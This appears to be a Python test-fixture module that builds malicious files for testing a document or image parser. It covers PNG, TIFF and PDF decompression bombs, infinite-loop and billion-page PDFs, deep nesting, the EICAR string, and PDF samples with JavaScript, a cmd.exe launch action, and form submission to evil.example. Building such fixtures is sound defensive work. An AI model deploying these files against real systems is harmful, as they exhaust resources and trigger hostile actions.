"""Files that nobody means well with, made here byte by byte so that none need be kept: bombs, loops, two-faced ones."""

import io
import struct
import zipfile
import zlib

import pikepdf
from pikepdf import Array, Dictionary, Name
from PIL import Image

EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-" + b"ANTIVIRUS-TEST-FILE!$H+H*"


def picture(kind: str, size=(60, 40), mode="RGB", **how) -> bytes:
    return encoded(Image.linear_gradient("L").resize(size).convert(mode), kind, **how)


def encoded(image: Image.Image, kind: str, **how) -> bytes:
    made = io.BytesIO()
    image.save(made, kind, **how)
    return made.getvalue()


def archive() -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as file:
        file.writestr("evil.class", b"\xca\xfe\xba\xbe" * 40)
    return made.getvalue()


def _chunk(name: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))


def png_bomb(side: int = 16_500) -> bytes:
    """272 million black points in 30 kB."""
    head = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    rows = zlib.compressobj(9)
    row = bytes(1 + side // 8)
    packed = b"".join(rows.compress(row * 500) for _ in range(side // 500)) + rows.flush()
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", head) + _chunk(b"IDAT", packed) + _chunk(b"IEND", b"")


def png_with_text_bomb() -> bytes:
    """A note of the picture that unpacks to 200 MB."""
    whole = picture("PNG")
    note = _chunk(b"zTXt", b"Comment\0\0" + zlib.compress(bytes(200_000_000), 9))
    return whole[:33] + note + whole[33:]


def tiff(tags: dict[int, tuple[int, int, int]], data: bytes = b"", following: int = 0) -> bytes:
    """One directory: {tag: (type, count, value)}, then data at byte 1000."""
    entries = b"".join(struct.pack("<HHII", tag, *told) for tag, told in sorted(tags.items()))
    head = b"II*\0" + struct.pack("<IH", 8, len(tags)) + entries + struct.pack("<I", following)
    return head.ljust(1000, b"\0") + data


def g4_tags(width: int, height: int, length: int) -> dict:
    return {
        256: (4, 1, width),
        257: (4, 1, height),
        258: (3, 1, 1),
        259: (3, 1, 4),
        262: (3, 1, 0),
        273: (4, 1, 1000),
        277: (3, 1, 1),
        278: (4, 1, height),
        279: (4, 1, length),
    }


def g4_bomb(side: int = 60_000) -> bytes:
    """White lines cost one bit each: a picture of 3 600 million points in nine kilobytes."""
    lines = b"\xff" * (side // 8 + 1)
    return tiff(g4_tags(side, side, len(lines)), lines)


def fax(sides: tuple[int, int], packing: str = "group4") -> bytes:
    """Lines of writing as a fax packs them, without a file around them."""
    sheet = Image.effect_noise((sides[0] // 8, sides[1] // 8), 90).resize(sides).convert("1", dither=Image.Dither.NONE)
    with Image.open(io.BytesIO(encoded(sheet, "TIFF", compression=packing, strip_size=10**8))) as made:
        return made.fp.getvalue()[made.tag_v2[273][0] :][: made.tag_v2[279][0]]


def rows_of_fax(sides: tuple[int, int]) -> list[str]:
    """The codes of each line in one direction, as bits: what stands between the marks of an older fax."""
    packed = fax(sides, "group3")
    lines = f"{int.from_bytes(packed):0{8 * len(packed)}b}".split(f"{1:012b}")
    return lines[1 : sides[1] + 1]


def jbig2(*parts: tuple[int, bytes]) -> bytes:
    """(kind, data) of each."""
    heads = (struct.pack(">IBBBI", number, kind, 0, 1, len(data)) + data for number, (kind, data) in enumerate(parts))
    return b"".join(heads)


def tiff_that_never_ends() -> bytes:
    """The directory names itself as the next one."""
    lines = b"\xff" * 100
    return tiff(g4_tags(64, 64, len(lines)), lines, following=8)


def tiff_of_many_pages(pages: int) -> bytes:
    made = io.BytesIO()
    first = Image.new("1", (8, 8))
    first.save(made, "TIFF", save_all=True, append_images=[first] * (pages - 1), compression="group4")
    return made.getvalue()


def pdf(pages: int = 1, change=None, **saving) -> bytes:
    """Pages with a word on each; `change` does what it will to the document."""
    document = pikepdf.new()
    font = document.make_indirect(Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica))
    for number in range(pages):
        document.add_blank_page(page_size=(595, 842))
        page = document.pages[number]
        page.obj.Resources = Dictionary(Font=Dictionary(F1=font))
        page.contents_add(f"BT /F1 24 Tf 100 700 Td (page {number + 1}) Tj ET".encode())
    if change:
        change(document)
    made = io.BytesIO()
    document.save(made, **saving)
    return made.getvalue()


def raw_pdf(*objects: bytes) -> bytes:
    """Objects as they are given, the first of them the catalogue, with a table of places."""
    made, places = b"%PDF-1.7\n", []
    for number, body in enumerate(objects, 1):
        places.append(len(made))
        made += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    head = b"xref\n0 %d\n0000000000 65535 f \n%s" % (len(places) + 1, table)
    return made + head + b"trailer\n<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (len(places) + 1, len(made))


CATALOGUE = b"<</Type/Catalog/Pages 2 0 R>>"
PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]%s>>"


def one_page(more: bytes = b"", *objects: bytes) -> bytes:
    return raw_pdf(CATALOGUE, b"<</Type/Pages/Kids[3 0 R]/Count 1>>", PAGE % more, *objects)


def billion_pages() -> bytes:
    """Ten branches of ten branches of ten …, each of them the same one: ten thousand million pages."""
    levels = [b"<</Type/Pages/Count 9/Kids[%s]>>" % (b"%d 0 R " % (n + 1) * 10) for n in range(2, 12)]
    return raw_pdf(CATALOGUE, *levels, PAGE % b"")


def flat(data: bytes, more: bytes = b"", times: int = 1) -> bytes:
    for _ in range(times):
        data = zlib.compress(data, 9)
    names = b"/FlateDecode" * times
    return b"<</Length %d/Filter[%s]%s>>\nstream\n%s\nendstream" % (len(data), names, more, data)


def flate_bomb(times: int = 1) -> bytes:
    """A page whose content unpacks to a gigabyte of blanks, in one packing or in two."""
    return one_page(b"/Contents 4 0 R", flat(b" " * 400_000_000, times=times))


def picture_bomb(filter_: bytes = b"/FlateDecode", bits: int = 8) -> bytes:
    image = (
        b"<</Type/XObject/Subtype/Image/Width 100000/Height 100000/ColorSpace/DeviceGray"
        b"/BitsPerComponent %d/Filter%s/Length 8>>\nstream\n12345678\nendstream" % (bits, filter_)
    )
    return one_page(
        b"/Contents 5 0 R/Resources<</XObject<</I 4 0 R>>>>",
        image,
        b"<</Length 30>>\nstream\n595 0 0 842 0 0 cm /I Do     \nendstream",
    )


def deep(depth: int = 60_000) -> bytes:
    return one_page(b"/Deep " + b"[" * depth + b"]" * depth)


def forms_in_forms(innermost: bytes = b"0 0 9 9 re f") -> bytes:
    """A drawing of ten drawings of ten drawings: nothing is large, and it is never done. It fills the memory as well,
    unless the innermost leaves nothing to keep.
    """
    forms = []
    for number in range(4, 14):
        draws = b"/X Do " * 10 if number < 13 else innermost
        forms.append(
            b"<</Type/XObject/Subtype/Form/BBox[0 0 595 842]/Resources<</XObject<</X %d 0 R>>>>/Length %d>>\n"
            b"stream\n%s\nendstream" % (number + 1, len(draws), draws)
        )
    return one_page(
        b"/Contents 14 0 R/Resources<</XObject<</X 4 0 R>>>>", *forms, b"<</Length 5>>\nstream\n/X Do\nendstream"
    )


def script(words: str = "app.alert(1)") -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=words)


def _note(document, **told) -> None:
    note = Dictionary(Type=Name.Annot, Rect=Array([10, 10, 90, 60]), **told)
    document.pages[0].obj.Annots = Array([document.make_indirect(note)])


def _named(document, key: str, what) -> None:
    document.Root.Names = Dictionary(
        {key: Dictionary(Names=Array([pikepdf.String("x"), document.make_indirect(what)]))}
    )


def _attached(document) -> None:
    document.attachments["evil.exe"] = b"MZ" + bytes(100)


def _field(document, **told) -> Dictionary:
    field = document.make_indirect(
        Dictionary(
            Type=Name.Annot,
            Subtype=Name.Widget,
            FT=Name.Tx,
            T="a",
            V="seen",
            Rect=Array([10, 10, 90, 60]),
            DA="/F1 12 Tf",
            **told,
        )
    )
    document.pages[0].obj.Annots = Array([field])
    document.Root.AcroForm = Dictionary(Fields=Array([field]), NeedAppearances=True, DA="/F1 12 Tf")
    return field


def _xfa(document) -> None:
    _field(document)
    document.Root.AcroForm.XFA = document.make_stream(b"<xdp:xdp><script>1</script></xdp:xdp>")


def _in_contents_list(document) -> None:
    entry = document.make_indirect(Dictionary(Title="x", A=script()))
    document.Root.Outlines = document.make_indirect(Dictionary(First=entry, Last=entry, Count=1))


ACTIVE = {
    "script when opened": lambda d: setattr(d.Root, "OpenAction", script()),
    "script by name": lambda d: _named(d, "/JavaScript", script()),
    "script after a harmless jump": lambda d: setattr(
        d.Root, "OpenAction", Dictionary(S=Name.GoTo, D="a", Next=script())
    ),
    "script of the document": lambda d: setattr(d.Root, "AA", Dictionary(WC=script())),
    "script of a page": lambda d: setattr(d.pages[0].obj, "AA", Dictionary(O=script())),
    "script of a note": lambda d: _note(d, Subtype=Name.Square, AA=Dictionary(E=script())),
    "script of a field": lambda d: _field(d, AA=Dictionary(K=script())),
    "script of the list of contents": _in_contents_list,
    "program": lambda d: _note(d, Subtype=Name.Link, A=Dictionary(S=Name.Launch, F="cmd.exe")),
    "address": lambda d: _note(d, Subtype=Name.Link, A=Dictionary(S=Name.URI, URI="http://evil.example/")),
    "other file": lambda d: _note(d, Subtype=Name.Link, A=Dictionary(S=Name.GoToR, F=r"\\evil\share", D="a")),
    "sending": lambda d: _note(d, Subtype=Name.Link, A=Dictionary(S=Name.SubmitForm, F="http://evil.example/")),
    "film": lambda d: _note(d, Subtype=Name.Movie, Movie=Dictionary(F="http://evil.example/")),
    "rich media": lambda d: _note(d, Subtype=Name.RichMedia, RichMediaContent=Dictionary()),
    "attachment": _attached,
    "attachment as a note": lambda d: _note(d, Subtype=Name.FileAttachment, FS=Dictionary(Type=Name.Filespec, F="x")),
    "form": _xfa,
}
